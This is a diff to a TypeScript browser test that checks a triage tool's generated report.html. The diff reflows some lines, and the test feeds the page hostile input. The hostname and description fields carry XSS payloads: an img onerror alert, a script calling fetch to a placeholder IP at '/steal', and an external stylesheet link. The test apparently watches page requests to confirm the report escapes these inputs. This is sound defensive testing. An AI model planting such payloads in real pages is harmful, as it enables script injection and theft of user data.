@@ -23,7 +23,10 @@ afterAll(async () => {
 });
 
 async function htmlFile(report: Report): Promise<string> {
-  const html = bundleFiles(prepareBundle(report, [], { level: 'standard' })).get('report.html')?.toString('utf8') ?? '';
+  const html =
+    bundleFiles(prepareBundle(report, [], { level: 'standard' }))
+      .get('report.html')
+      ?.toString('utf8') ?? '';
   const path = join(mkdtempSync(join(tmpdir(), 'triage-html-')), 'report.html');
   writeFileSync(path, html);
   return path;
@@ -35,7 +38,12 @@ describe('report.html', () => {
     const hostile: Report = {
       ...base,
       host: { ...base.host, hostname: '<img src=http://198.51.100.9/x onerror=alert(1)>' },
-      problem: { category: 'other', description: '<script>fetch("http://198.51.100.9/steal")</script><link rel=stylesheet href=//198.51.100.9/a.css>', contact: null },
+      problem: {
+        category: 'other',
+        description:
+          '<script>fetch("http://198.51.100.9/steal")</script><link rel=stylesheet href=//198.51.100.9/a.css>',
+        contact: null,
+      },
     };
     const page = await browser.newPage();
     const requests: string[] = [];
@@ -67,7 +75,9 @@ describe('report.html', () => {
     const headings = await page.locator('h2').allInnerTexts();
     expect(headings[0]).toMatch(/problem/i);
     expect(headings[1]).toMatch(/^Findings/);
-    expect(headings.findIndex((h) => h.startsWith('Findings'))).toBeLessThan(headings.findIndex((h) => h.startsWith('Every check')));
+    expect(headings.findIndex((h) => h.startsWith('Findings'))).toBeLessThan(
+      headings.findIndex((h) => h.startsWith('Every check')),
+    );
     expect(await page.locator('section.card[id]').count()).toBe(report.run.probes.length);
     await page.screenshot({ path: join(SCREENSHOTS, 'report-html.png'), fullPage: false });
     await page.emulateMedia({ media: 'print' });
